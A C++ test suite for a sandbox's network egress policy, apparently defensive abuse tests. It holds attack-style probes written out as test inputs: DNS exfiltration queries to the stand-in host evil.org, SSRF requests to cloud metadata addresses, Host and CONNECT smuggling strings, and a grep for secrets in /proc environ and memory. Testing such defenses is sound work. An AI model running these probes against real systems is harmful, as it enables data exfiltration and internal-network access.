// S37 to S46: boxes in network mode egress and full. Test servers on loopback stand in the place of
// public addresses, behind every rule; the programs inside are real ones.
#include <poll.h>
#include <sys/socket.h>
#include <unistd.h>

#include <algorithm>
#include <map>
#include <mutex>

#include "base/http/client.h"
#include "base/http/server.h"
#include "base/json/json.h"
#include "box_fixture.h"
#include "sphere/egress/upstream.h"
#include "sphere/http/port_routes.h"
#include "support/tls_server.h"

namespace test {
namespace {

const char* const kPublic = "93.184.216.34";

/// Names and places of a world that ends on loopback.
class World final : public sphere::egress::Upstream {
public:
    base::Result<std::vector<sphere::net::Address>> resolve(const std::string& name) override {
        const std::lock_guard lock(mutex_);
        asked_.push_back(name);
        const auto at = names_.find(name);
        if (at == names_.end()) {
            return base::fail(base::Code::not_found, "{} does not exist", name);
        }
        return std::vector{*sphere::net::parse_address(at->second)};
    }
    sphere::net::Endpoint route(const sphere::net::Endpoint& wanted) const override {
        const std::lock_guard lock(mutex_);
        routed_.push_back(sphere::net::to_text(wanted));
        const auto at = ports_.find(wanted.port);
        return {*sphere::net::parse_address("127.0.0.1"),
                at == ports_.end() ? std::uint16_t{1} : at->second};
    }
    std::string ca_file() const override { return authority; }

    void name(const std::string& name, const std::string& address) {
        const std::lock_guard lock(mutex_);
        names_[name] = address;
    }
    void port(std::uint16_t wanted, std::uint16_t real) {
        const std::lock_guard lock(mutex_);
        ports_[wanted] = real;
    }
    std::vector<std::string> asked() const {
        const std::lock_guard lock(mutex_);
        return asked_;
    }
    std::vector<std::string> routed() const {
        const std::lock_guard lock(mutex_);
        return routed_;
    }
    std::string authority;

private:
    mutable std::mutex mutex_;
    std::map<std::string, std::string> names_;
    std::map<std::uint16_t, std::uint16_t> ports_;
    std::vector<std::string> asked_;
    mutable std::vector<std::string> routed_;
};

class EgressTest : public AbuseTest {
protected:
    void SetUp() override {
        AbuseTest::SetUp();
        if (IsSkipped()) return;
        for (const char* name : {"api.example.org", "other.example.org", "evil.org"}) {
            world->name(name, kPublic);
        }
        serve_http();
        tls = std::make_unique<TlsServer>("api.example.org");
        world->authority = tls->ca_file();
        world->port(80, http->port());
        world->port(443, tls->port());
        sphere.reset();
        sphere::SphereOptions options;
        options.state_dir = state.path();
        options.pool_size = 0;
        options.upstream = world;
        options.on_network_attempt = [this](const sphere::SandboxId&,
                                            const sphere::NetworkAttempt& attempt) {
            const std::lock_guard lock(mutex);
            attempts.push_back(attempt);
        };
        open(options);
    }
    void TearDown() override {
        AbuseTest::TearDown();
        if (http) http->stop(std::chrono::milliseconds(0));
    }

    void serve_http() {
        base::http::ServerOptions options;
        options.allowed_hosts = {"*"};
        auto listening = base::http::Server::listen(options, clock);
        ASSERT_TRUE(listening);
        http = std::move(*listening);
        // Says back everything it was told, as a careless service does.
        const auto echo = [](const base::http::Request& request,
                             const base::http::ResponderPtr& responder) {
            std::string text = request.method + " " + request.path + "\n";
            for (const auto& [name, value] : request.headers.fields()) {
                text += name + ": " + value + "\n";
            }
            responder->send(base::http::text_response(200, "text/plain", text + request.body));
        };
        for (const char* method : {"GET", "POST"}) http->router().add(method, "/echo", echo);
        http->router().add("GET", "/away", [](const auto&, const auto& responder) {
            base::http::Response response;
            response.status = 302;
            response.headers.add("Location", "http://evil.org/echo");
            responder->send(std::move(response));
        });
        http->router().add("GET", "/bytes", [](const auto& request, const auto& responder) {
            const std::size_t count = std::stoul(request.query_param("n").value_or("0"));
            responder->send(base::http::text_response(200, "text/plain", std::string(count, 'x')));
        });
        http->start();
    }

    sphere::SandboxSpec egress(std::vector<std::string> domains = {"*.example.org"}) {
        sphere::SandboxSpec spec;
        spec.network.mode = sphere::NetworkMode::egress;
        spec.network.allow_domains = std::move(domains);
        return spec;
    }
    /// What a shell line prints in `box`, both streams.
    std::string sh(const sphere::SandboxId& box, const std::string& line) {
        run(box, {.argv = {"bash", "-c", line + " 2>&1"}});
        return recorder.out;
    }
    std::string python(const sphere::SandboxId& box, const std::string& code) {
        run(box, {.argv = {"python3", "-c", code}});
        return recorder.out + recorder.err;
    }
    std::vector<sphere::NetworkAttempt> seen() {
        const std::lock_guard lock(mutex);
        return attempts;
    }
    std::size_t count(bool allowed, const std::string& protocol, const std::string& target) {
        const auto all = seen();
        return static_cast<std::size_t>(std::ranges::count_if(all, [&](const auto& attempt) {
            return attempt.allowed == allowed && attempt.protocol == protocol &&
                   attempt.target == target;
        }));
    }

    std::shared_ptr<World> world = std::make_shared<World>();
    std::unique_ptr<base::http::Server> http;
    std::unique_ptr<TlsServer> tls;
    std::mutex mutex;
    std::vector<sphere::NetworkAttempt> attempts;
};

const char* const kStatus = "-s -o /dev/null -w '%{http_code}\\n'";

TEST_F(EgressTest, AnAllowedNameIsReachedWithAndWithoutProxies) {
    const auto box = make(egress());
    EXPECT_NE(sh(box, "curl -sS http://api.example.org/echo").find("GET /echo"), std::string::npos)
        << recorder.out;
    EXPECT_NE(sh(box, "curl -sS --noproxy '*' http://api.example.org/echo").find("GET /echo"),
              std::string::npos)
        << recorder.out;
    EXPECT_NE(sh(box, "curl -sSk https://api.example.org/echo").find("GET /echo"),
              std::string::npos)
        << recorder.out;
    EXPECT_NE(sh(box, "curl -sSk --noproxy '*' https://api.example.org/echo").find("GET /echo"),
              std::string::npos)
        << recorder.out;
    EXPECT_NE(sh(box, "curl -sSk6 --noproxy '*' https://api.example.org/echo").find("GET /echo"),
              std::string::npos)
        << recorder.out;
    EXPECT_NE(sh(box,
                 "curl -sS --noproxy '*' --socks5-hostname 127.0.0.1:1080 "
                 "-k https://api.example.org/echo")
                  .find("GET /echo"),
              std::string::npos)
        << recorder.out;
    const auto info = sphere->info(box);
    ASSERT_TRUE(sphere->destroy(box));  // the last attempts are told by then
    EXPECT_EQ(count(true, "http", "api.example.org:80"), 2u);
    EXPECT_EQ(count(true, "tcp", "api.example.org:443"), 4u);
    const auto all = seen();
    EXPECT_EQ(std::ranges::count(all, false, &sphere::NetworkAttempt::allowed), 0);
    EXPECT_EQ(info->network.calls, all.size());
    EXPECT_EQ(info->network.refused, 0u);
    std::uint64_t out = 0, in = 0;
    for (const auto& attempt : all) {
        out += attempt.bytes_out;
        in += attempt.bytes_in;
    }
    EXPECT_GT(in, 0u);
    EXPECT_EQ(sphere->info(box)->network.bytes_out, out);
    EXPECT_EQ(sphere->info(box)->network.bytes_in, in);
}

TEST_F(EgressTest, S37_NothingButTcpToWhatIsListenedToGoesAnywhere) {
    const auto box = make(egress());
    const std::string told = python(box, R"(
import socket, errno
def tell(name, call):
    try: call(); print(name, 'ok')
    except OSError as e: print(name, errno.errorcode.get(e.errno, e.errno))
def tcp(a, p, f=socket.AF_INET):
    s = socket.socket(f); s.settimeout(5); s.connect((a, p))
def udp(a, p):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.connect((a, p)); s.settimeout(5)
    s.send(b'x'); s.recv(1)
tell('tcp', lambda: tcp('93.184.216.34', 9999))
tell('tcp6', lambda: tcp('2606:2800:220:1::1', 9999, socket.AF_INET6))
tell('udp', lambda: udp('93.184.216.34', 443))
tell('raw', lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, 1))
tell('ping', lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM, 1))
)");
    EXPECT_EQ(told,
              "tcp ECONNREFUSED\ntcp6 ECONNREFUSED\nudp ECONNREFUSED\nraw EPERM\nping EACCES\n");
    EXPECT_TRUE(world->routed().empty());
}

/// No broker sees them: the kernel's own counters do, and one event a protocol says how many.
TEST_F(EgressTest, WhatGoesPastTheBrokerIsCounted) {
    const auto box = make(egress());
    const auto told = [&](const std::string& protocol) {
        std::string reasons;
        for (const auto& attempt : seen()) {
            if (attempt.protocol == protocol && !attempt.allowed) reasons += attempt.reason + "\n";
        }
        return reasons;
    };
    const char* const code = R"(
import socket
def tcp(a, p, f=socket.AF_INET):
    try: socket.socket(f).connect((a, p))
    except OSError: pass
def udp(a, p, n, f=socket.AF_INET):
    s = socket.socket(f, socket.SOCK_DGRAM)
    for i in range(n): s.sendto(b'x', (a, p))
for port in (22, 8080, 9999): tcp('93.184.216.34', port)
tcp('2606:2800:220:1::1', 9999, socket.AF_INET6)
udp('8.8.8.8', 123, 5)
udp('2606:2800:220:1::1', 123, 2, socket.AF_INET6)
)";
    python(box, code);
    EXPECT_TRUE(told("tcp").starts_with("4 connections ")) << told("tcp");
    EXPECT_TRUE(told("udp").starts_with("7 datagrams ")) << told("udp");
    const auto refused = events("network.refused", box);
    EXPECT_EQ(refused.size(), 2u);
    const std::string before = told("tcp") + told("udp");
    sh(box, std::string("curl ") + kStatus + " http://api.example.org/echo");
    EXPECT_EQ(told("tcp") + told("udp"), before) << "what the broker takes is told by it alone";
    python(box, code);
    EXPECT_EQ(events("network.refused", box).size(), 4u);
    EXPECT_NE(told("tcp").find("\n4 connections "), std::string::npos) << told("tcp");
}

TEST_F(EgressTest, S38_TheHostsLoopbackStaysOutOfReach) {
    const auto box = make(egress());
    const std::string port = std::to_string(http->port());
    // The very server that public names lead to, by its real address.
    const std::string direct =
        std::string("curl ") + kStatus + " --noproxy '*' http://127.0.0.1:" + port + "/echo; ";
    const std::string proxied = std::string("env -u no_proxy -u NO_PROXY curl ") + kStatus +
                                " http://127.0.0.1:" + port + "/echo";
    EXPECT_EQ(sh(box, direct + proxied), "000\n403\n");
    EXPECT_TRUE(world->routed().empty());
}

TEST_F(EgressTest, S39_MetadataAddressesAreDeniedByNumberAndByName) {
    world->name("metadata.example.org", "169.254.169.254");
    const auto box = make(egress());
    for (const char* url : {"http://169.254.169.254/", "http://[fd00:ec2::254]/",
                            "http://100.100.100.200/", "http://[::ffff:169.254.169.254]/",
                            "http://metadata.example.org/", "https://169.254.169.254/"}) {
        const std::string direct = std::string("curl ") + kStatus + " -g --noproxy '*' " + url;
        EXPECT_EQ(sh(box, direct), "000\n") << url;
        const std::string proxied =
            std::string("curl ") + kStatus + " -gp -x 127.0.0.1:3128 " + url;
        sh(box, proxied);
    }
    ASSERT_TRUE(sphere->destroy(box));
    EXPECT_GE(count(false, "tcp", "169.254.169.254:80"), 3u);
    EXPECT_GE(count(false, "tcp", "[fd00:ec2::254]:80"), 2u);
    EXPECT_GE(count(false, "tcp", "100.100.100.200:80"), 2u);
    EXPECT_GE(count(false, "dns", "metadata.example.org"), 1u);
    EXPECT_TRUE(world->routed().empty());
}

TEST_F(EgressTest, S40_NoQueryForAnotherNameLeaves) {
    const auto box = make(egress());
    const std::string told = python(box, R"(
import socket
for name in ['c2VjcmV0.evil.org', 'c2VjcmV0.example.org.evil.org', 'example.org', 'evil.org']:
    try: socket.getaddrinfo(name, 80); print('found')
    except socket.gaierror as e: print(e.errno == socket.EAI_NONAME)
# Straight to a resolver of one's own choice, which is us.
q = b'\x12\x34\x01\0\0\1\0\0\0\0\0\0\6c2VjcmV0\4evil\3org\0\0\x10\0\1'.replace(b'\6c2', b'\x08c2')
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(5)
s.sendto(q, ('8.8.8.8', 53)); a, who = s.recvfrom(512)
print(who[0], a[3] & 15)
s = socket.create_connection(('8.8.4.4', 53)); s.sendall(len(q).to_bytes(2, 'big') + q)
print(s.recv(512)[5] & 15)
)");
    EXPECT_EQ(told, "True\nTrue\nTrue\nTrue\n8.8.8.8 3\n3\n");
    EXPECT_TRUE(world->asked().empty());
    ASSERT_TRUE(sphere->destroy(box));
    EXPECT_EQ(count(false, "dns", "c2vjcmv0.evil.org"), 4u);  // A, AAAA, and the two by hand
}

TEST_F(EgressTest, S41_ANameInPrivateSpaceIsDeniedAndAnAddressIsPinned) {
    world->name("inside.example.org", "10.0.0.7");
    const auto box = make(egress());
    EXPECT_EQ(sh(box, std::string("curl ") + kStatus + " --noproxy '*' http://inside.example.org/"),
              "000\n");
    EXPECT_EQ(sh(box, std::string("curl ") + kStatus + " http://inside.example.org/"), "403\n");
    EXPECT_TRUE(world->routed().empty());
    EXPECT_EQ(sh(box, std::string("curl ") + kStatus + " http://api.example.org/echo"), "200\n");
    world->name("api.example.org", "127.0.0.1");  // the second look-up would say so
    EXPECT_EQ(sh(box, std::string("curl ") + kStatus + " http://api.example.org/echo"), "200\n");
    for (const std::string& endpoint : world->routed()) EXPECT_EQ(endpoint, "93.184.216.34:80");
    // New rules forget what was pinned: what it resolves to now is looked at.
    ASSERT_TRUE(sphere->set_network(box, egress().network));
    EXPECT_EQ(sh(box, std::string("curl ") + kStatus + " http://api.example.org/echo"), "403\n");
    ASSERT_TRUE(sphere->destroy(box));
    EXPECT_EQ(count(false, "http", "inside.example.org:80"), 1u);
    EXPECT_EQ(count(false, "http", "api.example.org:80"), 1u);
}

TEST_F(EgressTest, S42_AnotherNameInTlsOrHostIsDenied) {
    const auto box = make(egress({"api.example.org"}));
    const std::string to_api =
        " -k --connect-to evil.org:443:api.example.org:443 https://evil.org/";
    EXPECT_NE(sh(box, "curl -sS" + to_api).find("alert"), std::string::npos) << recorder.out;
    EXPECT_NE(sh(box, "curl -sS --noproxy '*'" + to_api).find("alert"), std::string::npos)
        << recorder.out;
    // No name at all.
    EXPECT_NE(python(box, R"(
import socket, ssl
c = ssl.create_default_context(); c.check_hostname = False; c.verify_mode = ssl.CERT_NONE
try: c.wrap_socket(socket.create_connection(('api.example.org', 443))); print('open')
except (ssl.SSLError, OSError) as e: print('refused')
)")
                  .find("refused"),
              std::string::npos);
    EXPECT_EQ(tls->handshakes(), 0);
    for (const char* how : {"", " --noproxy '*'"}) {
        EXPECT_EQ(sh(box, std::string("curl ") + kStatus + how +
                              " -H 'Host: evil.org' http://api.example.org/echo"),
                  "403\n");
    }
    // The second request on a connection that the first one opened properly.
    EXPECT_EQ(python(box, R"(
import http.client
c = http.client.HTTPConnection('api.example.org', 80)
c.request('GET', '/echo'); r = c.getresponse(); r.read(); print(r.status)
c.request('GET', '/echo', headers={'Host': 'API.example.org.'}); r = c.getresponse(); r.read()
print(r.status)
c.request('GET', '/echo', headers={'Host': 'evil.org'}); r = c.getresponse(); r.read()
print(r.status)
)"),
              "200\n200\n403\n");
    ASSERT_TRUE(sphere->destroy(box));
    EXPECT_EQ(count(false, "tcp", "api.example.org:443"), 3u);
    EXPECT_EQ(count(false, "http", "api.example.org:80"), 3u);
}

TEST_F(EgressTest, S43_EverySpellingGetsTheSameDecision) {
    const auto box = make(egress({"api.example.org"}));
    const std::string told = python(box, R"(
import socket
def connect(authority):
    s = socket.create_connection(('127.0.0.1', 3128)); s.settimeout(10)
    s.sendall(f'CONNECT {authority} HTTP/1.1\r\nHost: {authority}\r\n\r\n'.encode('latin-1'))
    return s.recv(100)[9:12].decode()
for a in ['api.example.org:443', 'API.Example.ORG:443', 'api.example.org.:443']: print(connect(a))
for a in ['user@api.example.org:443', 'api.example.org@evil.org:443', 'evil.org:443',
          'api.example.org..:443', '.api.example.org:443', 'api.example.org:22', 'api.example.org',
          '127.0.0.1:3128', '127.1:80', '0x7f000001:80', '2130706433:80', '[::1]:80',
          '[::ffff:127.0.0.1]:80', '0.0.0.0:80', 'localhost:80', 'xapi.example.org:443',
          'api.example.org\x00.evil.org:443', 'api.example.org%00:443']:
    print(connect(a))
)");
    std::string expected = "200\n200\n200\n";
    for (int i = 0; i < 18; ++i) expected += i == 16 ? "400\n" : "403\n";
    EXPECT_EQ(told, expected);
    // A proxy behind the proxy: the tunnel's end is what was allowed, and it speaks TLS or nothing.
    EXPECT_EQ(python(box, R"(
import socket
s = socket.create_connection(('127.0.0.1', 3128)); s.settimeout(10)
s.sendall(b'CONNECT api.example.org:443 HTTP/1.1\r\n\r\n'); s.recv(100)
s.sendall(b'CONNECT evil.org:443 HTTP/1.1\r\n\r\n'); print(s.recv(100)[9:12])
)"),
              "b'403'\n");
    EXPECT_EQ(tls->handshakes(), 0);
    for (const std::string& endpoint : world->routed()) EXPECT_EQ(endpoint, "93.184.216.34:443");
}

TEST_F(EgressTest, S44_ARedirectToAnotherHostIsDenied) {
    const auto box = make(egress({"api.example.org"}));
    EXPECT_EQ(sh(box, std::string("curl -L ") + kStatus + " http://api.example.org/away"), "403\n");
    sh(box, "curl -sL --noproxy '*' http://api.example.org/away");
    EXPECT_EQ(recorder.result->exit_code, 6);  // there is no such name
    ASSERT_TRUE(sphere->destroy(box));
    EXPECT_EQ(count(true, "http", "api.example.org:80"), 2u);
    EXPECT_EQ(count(false, "http", "evil.org:80"), 1u);
    EXPECT_GE(count(false, "dns", "evil.org"), 1u);
    for (const std::string& name : world->asked()) EXPECT_EQ(name, "api.example.org");
}

TEST_F(EgressTest, S45_CallsAndBytesEndExactlyAtTheCap) {
    auto spec = egress();
    spec.network.calls_max = 3;
    const auto few = make(spec);
    EXPECT_EQ(sh(few, std::string("for i in 1 2 3 4 5; do curl ") + kStatus +
                          " http://api.example.org/echo; done"),
              "200\n200\n200\n403\n403\n");
    EXPECT_EQ(sphere->info(few)->network.calls, 3u);
    EXPECT_EQ(sphere->info(few)->network.refused, 2u);
    spec.network.calls_max = 0;
    spec.network.bytes_max = 20'000;
    for (const char* how : {"", " --noproxy '*'", " -p"}) {  // -p: through a tunnel
        const auto box = make(spec);
        sh(box, std::string("curl -s -o /workspace/got") + how +
                    " 'http://api.example.org/bytes?n=100000'");
        EXPECT_EQ(recorder.result->exit_code, 18) << how;  // cut
        const auto network = sphere->info(box)->network;
        EXPECT_EQ(network.bytes_out + network.bytes_in, 20'000u) << how;
        EXPECT_EQ(network.refused, 1u);
        EXPECT_EQ(sh(box, std::string("curl ") + kStatus + " http://api.example.org/echo"),
                  "403\n");
        EXPECT_EQ(sphere->info(box)->network.bytes_in, network.bytes_in);
    }
}

TEST_F(EgressTest, S46_ASecretIsSetOutsideAndNotSeenInside) {
    const std::string value = CorpusSecrets::kValue;
    auto spec = egress();
    spec.secrets = {"api"};
    const auto box = sphere->create(spec);
    ASSERT_TRUE(box) << box.error().message;
    install(*box);
    const std::string echoed = sh(*box,
                                  "curl -sS -H 'Authorization: mine' -H 'Accept-Encoding: gzip' "
                                  "http://api.example.org/echo");
    EXPECT_NE(echoed.find("Authorization: " + std::string(value.size(), '*')), std::string::npos)
        << echoed;
    EXPECT_EQ(echoed.find("mine"), std::string::npos);
    EXPECT_EQ(echoed.find(value), std::string::npos);
    // Another host of the list gets nothing.
    EXPECT_EQ(sh(*box, "curl -sS http://other.example.org/echo").find("Authorization"),
              std::string::npos);
    const std::string search = "grep -rlc " + value +
                               " /proc/*/environ /proc/*/cmdline /tmp /workspace /etc /dev/shm "
                               "/proc/*/mem 2>/dev/null | grep -v " +
                               std::string("self; env | grep -c sk-live");
    EXPECT_EQ(sh(*box, search).find("sk-live"), std::string::npos);
    EXPECT_EQ(recorder.out.substr(recorder.out.size() - 2), "0\n");
}

TEST_F(EgressTest, ASecretForPort443GoesByTlsThatIsChecked) {
    auto spec = egress();
    spec.secrets = {"key"};
    const auto box = sphere->create(spec);
    ASSERT_TRUE(box) << box.error().message;
    const std::string echoed = sh(*box, "curl -sS http://api.example.org/echo");
    EXPECT_NE(echoed.find("X-Key: ********************"), std::string::npos) << echoed;
    EXPECT_EQ(tls->handshakes(), 1);
    // Its certificate is api's: another name is not given the secret.
    EXPECT_EQ(sh(*box, std::string("curl ") + kStatus + " http://other.example.org/echo"), "502\n");
    for (const std::string& endpoint : world->routed()) EXPECT_EQ(endpoint, "93.184.216.34:443");
}

TEST_F(EgressTest, ModeFullReachesThePublicAndNothingElse) {
    world->name("printer.corp", "10.0.0.9");
    sphere::SandboxSpec spec;
    spec.network.mode = sphere::NetworkMode::full;
    const auto box = make(spec);
    for (const char* url : {"http://evil.org/echo", "http://93.184.216.34/echo"}) {
        EXPECT_EQ(sh(box, std::string("curl --noproxy '*' ") + kStatus + " " + url), "200\n")
            << url;
        EXPECT_EQ(sh(box, std::string("curl ") + kStatus + " " + url), "200\n") << url;
    }
    for (const char* url :
         {"http://printer.corp/", "http://10.0.0.9/", "http://169.254.169.254/"}) {
        EXPECT_EQ(sh(box, std::string("curl --noproxy '*' ") + kStatus + " " + url), "000\n")
            << url;
        EXPECT_EQ(sh(box, std::string("curl ") + kStatus + " " + url), "403\n") << url;
    }
}

TEST_F(EgressTest, ThePolicyCanChangeWhileABoxRuns) {
    const auto box = make(egress({"api.example.org"}));
    const std::string ask = std::string("curl ") + kStatus + " http://other.example.org/echo";
    EXPECT_EQ(sh(box, ask), "403\n");
    ASSERT_TRUE(sphere->set_network(box, egress({"other.example.org"}).network));
    EXPECT_EQ(sh(box, ask), "200\n");
    const auto port = sphere->set_network(box, egress({"other.example.org:8443"}).network);
    ASSERT_FALSE(port);
    EXPECT_EQ(port.error().code, base::Code::failed_precondition);
}

TEST_F(EgressTest, APortOfTheBoxCanBeDialled) {
    for (const auto mode : {sphere::NetworkMode::loopback, sphere::NetworkMode::egress}) {
        sphere::SandboxSpec spec;
        spec.network.mode = mode;
        const auto box = make(spec);
        const auto nobody = sphere->dial(box, 8000);
        ASSERT_FALSE(nobody);
        EXPECT_EQ(nobody.error().code, base::Code::unavailable);
        std::vector<std::unique_ptr<Recorder>> servers;  // until the box has gone
        std::uint16_t port = 8001;
        for (const char* host : {"127.0.0.1", "::1"}) {
            Recorder& server = *servers.emplace_back(std::make_unique<Recorder>());
            ++port;
            const auto exec =
                sphere->start(box,
                              {.argv = {"python3", "-c",
                                        "import socket,sys\n"
                                        "s = socket.create_server((sys.argv[1], int(sys.argv[2])), "
                                        "family=socket.AF_INET6 "
                                        "if ':' in sys.argv[1] else socket.AF_INET)\n"
                                        "c, _ = s.accept(); c.sendall(c.recv(99).upper())",
                                        host, std::to_string(port)}},
                              server);
            ASSERT_TRUE(exec) << exec.error().message;
            base::Result<int> socket = sphere->dial(box, port);
            while (!socket) socket = sphere->dial(box, port);  // until it listens
            ASSERT_EQ(::send(*socket, "hello", 5, 0), 5);
            char answer[16] = {};
            ASSERT_EQ(::shutdown(*socket, SHUT_WR), 0);
            pollfd ready{*socket, POLLIN, 0};
            ASSERT_EQ(::poll(&ready, 1, 20'000), 1);
            EXPECT_EQ(::recv(*socket, answer, sizeof(answer), 0), 5);
            EXPECT_STREQ(answer, "HELLO");
            ::close(*socket);
        }
        ASSERT_TRUE(sphere->destroy(box));
    }
    const auto closed = sphere->dial(make(), 8000);  // mode none
    ASSERT_FALSE(closed);
    EXPECT_EQ(closed.error().code, base::Code::failed_precondition);
}

TEST_F(EgressTest, APortOfTheBoxIsServedToWhoHasItsToken) {
    sphere::SandboxSpec spec;
    spec.network.mode = sphere::NetworkMode::loopback;
    const auto box = make(spec);
    const std::string page(300'000, 'p');
    sh(box, "head -c 300000 /dev/zero | tr '\\0' p > '/workspace/a page'");
    Recorder server;
    ASSERT_TRUE(sphere->start(
        box, {.argv = {"python3", "-u", "-m", "http.server", "8000", "--bind", "127.0.0.1"}},
        server));
    base::Result<int> up = sphere->dial(box, 8000);
    while (!up) up = sphere->dial(box, 8000);  // until it listens
    ::close(*up);

    sphere::PortApi ports(*sphere, clock, {});
    auto gateway = base::http::Server::listen({}, clock);
    ASSERT_TRUE(gateway);
    ports.register_routes((*gateway)->router());
    (*gateway)->start();
    const base::HttpClient client;
    const auto ask = [&](const std::string& method, const std::string& url,
                         const std::string& body = "", base::HttpClient::Headers headers = {}) {
        base::HttpClient::Request request;
        request.method = method;
        request.url = url;
        request.headers = std::move(headers);
        request.body = body;
        auto response = client.send(request);
        EXPECT_TRUE(response) << response.error().message;
        return response ? std::move(*response) : base::HttpClient::Response();
    };
    const std::string base_url = (*gateway)->url() + "/v1/sandboxes/" + box + "/ports";
    EXPECT_EQ(ask("GET", base_url + "/8000/").status, 403);
    EXPECT_EQ(ask("POST", base_url, R"({"port":8000})", {{"X-Dougong-Tenant", "other"}}).status,
              404);
    EXPECT_EQ(ask("POST", base_url, R"({"port":0})").status, 400);
    const auto opened = ask("POST", base_url, R"({"port":8000})");
    ASSERT_EQ(opened.status, 201) << opened.body;
    const auto facts = base::parse_json(opened.body);
    ASSERT_TRUE(facts);
    const std::string token(facts->at("token").as_string());
    const base::HttpClient::Headers with = {{"X-Dougong-Port-Token", token}};
    EXPECT_EQ(ask("GET", std::string(facts->at("url").as_string())).status, 200);
    const auto got = ask("GET", base_url + "/8000/a%20page", "", with);
    EXPECT_EQ(got.status, 200);
    EXPECT_EQ(got.body, page);
    EXPECT_TRUE(got.header("Content-Security-Policy").value_or("").starts_with("sandbox"));
    EXPECT_EQ(ask("HEAD", base_url + "/8000/a%20page", "", with).status, 200);
    EXPECT_EQ(ask("DELETE", base_url + "/8000/a%20page", "", with).status, 501);  // python's own
    EXPECT_EQ(ask("GET", base_url + "/8001/", "", with).status, 403);             // another port
    const auto other = make(spec);
    EXPECT_EQ(
        ask("GET", (*gateway)->url() + "/v1/sandboxes/" + other + "/ports/8000/", "", with).status,
        403);
    (*gateway)->stop(std::chrono::milliseconds(0));
    ports.stop();
    ASSERT_TRUE(sphere->destroy(box));
}

}  // namespace
}  // namespace test
